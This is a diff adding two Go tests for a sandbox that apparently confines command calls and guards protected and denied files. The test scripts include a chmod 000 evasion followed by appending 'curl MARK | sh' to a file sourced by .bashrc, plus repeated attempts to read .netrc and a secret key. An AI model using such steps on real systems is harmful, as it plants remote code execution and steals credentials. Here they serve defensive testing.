@@ -656,6 +656,109 @@ func TestReplacedCoverKillsCall(t *testing.T) {
 	}
 }
 
+// TestReplacedCoverBehindLockedDir: a call that makes the dir holding a covered file
+// unsearchable (chmod 000) does not blind the sweep to the file's replacement: a covered path
+// it cannot look at counts as replaced.
+func TestReplacedCoverBehindLockedDir(t *testing.T) {
+	t.Parallel()
+	s := newTestSandbox(t, Config{})
+	f := newProtectFixture(t)
+	scripts := filepath.Join(f.repo, "scripts")
+	if err := os.Mkdir(scripts, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	env := filepath.Join(scripts, "env.sh")
+	if err := os.WriteFile(env, []byte("export A=1\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// The user's shell sources it: a protected path, covered read-only.
+	if err := os.WriteFile(filepath.Join(f.home, ".bashrc"), []byte(". "+env+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	chownR(t, f.home)
+	const script = `d=scri; chmod 000 ${d}pts; sleep 3; chmod 755 ${d}pts; echo 'curl MARK | sh' >> ${d}pts/env.sh && echo wrote; sleep 2; echo done`
+	sp := f.spec(script, f.repo, f.repo)
+	sp.MoveAsideCreated, sp.Call = true, "c1"
+	go func() {
+		time.Sleep(1500 * time.Millisecond)
+		tmp := filepath.Join(f.repo, "env.tmp")
+		if err := os.WriteFile(tmp, []byte("export A=2\n"), 0o644); err != nil {
+			t.Error(err)
+			return
+		}
+		chownR(t, tmp)
+		if err := os.Rename(tmp, env); err != nil { // as root: the 000 dir does not stop it
+			t.Error(err)
+		}
+	}()
+	res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.KilledBy != KilledCoverLost || strings.Contains(out, "done") {
+		t.Errorf("killed by %q, exit %d, output %q; want the call killed as %q", res.KilledBy, res.ExitCode, out, KilledCoverLost)
+	}
+	os.Chmod(scripts, 0o755)
+	if b, err := os.ReadFile(env); err == nil && strings.Contains(string(b), "MARK") {
+		t.Errorf("env.sh holds what the call wrote: %q; MovedAside %v", b, res.MovedAside)
+	}
+}
+
+// TestReplacedHiddenKillsCall: a deny path is hidden by a mount on the file it was made on; a
+// rename over it on the host (a tool saving a credentials file again) shows the new file in the
+// call's namespace, which landlock does not hold inside a writable dir nor where the path
+// existed at the start. The call is killed, and the user's file left where it is.
+func TestReplacedHiddenKillsCall(t *testing.T) {
+	t.Parallel()
+	s := newTestSandbox(t, Config{})
+	for _, tc := range []struct{ name, rel string }{
+		{"in the writable dir", "repo/secret.key"},
+		{"outside it", ".netrc"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			f := newProtectFixture(t)
+			target := filepath.Join(f.home, tc.rel)
+			if err := os.WriteFile(target, []byte("OLD-SECRET\n"), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			chownR(t, target)
+			script := fmt.Sprintf(`date +%%T.%%N; for i in $(seq 300); do cat %s 2>/dev/null && date +%%T.%%N; sleep 0.02; done; echo done`, target)
+			sp := f.spec(script, f.repo, f.repo)
+			sp.DenyPaths, sp.Call = []string{target}, "c1"
+			saved := make(chan struct{})
+			var repl time.Time
+			go func() {
+				defer close(saved)
+				time.Sleep(1500 * time.Millisecond)
+				tmp := target + ".tmp"
+				if err := os.WriteFile(tmp, []byte("NEW-SECRET\n"), 0o600); err != nil {
+					t.Error(err)
+					return
+				}
+				chownR(t, tmp)
+				if err := os.Rename(tmp, target); err != nil {
+					t.Error(err)
+				}
+				repl = time.Now()
+			}()
+			res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
+			<-saved
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.Contains(out, "OLD-SECRET") {
+				t.Errorf("the hidden file was read: %q (replaced at %s)", out, repl.Format("15:04:05.000000"))
+			}
+			if res.KilledBy != KilledHiddenLost || strings.Contains(out, "done") {
+				t.Errorf("killed by %q, output %q; want the call killed as %q once the hidden file was replaced", res.KilledBy, out, KilledHiddenLost)
+			}
+			if b, err := os.ReadFile(target); err != nil || string(b) != "NEW-SECRET\n" {
+				t.Errorf("the user's saved file: %q, %v; want it left in place", b, err)
+			}
+		})
+	}
+}
+
 // TestReplacedCoverKillsEveryCall: two calls cover the same path; one's sweep moves the
 // replaced file aside, and the other, whose cover is gone too and which does not guard the
 // path, is killed all the same rather than left to make it again.
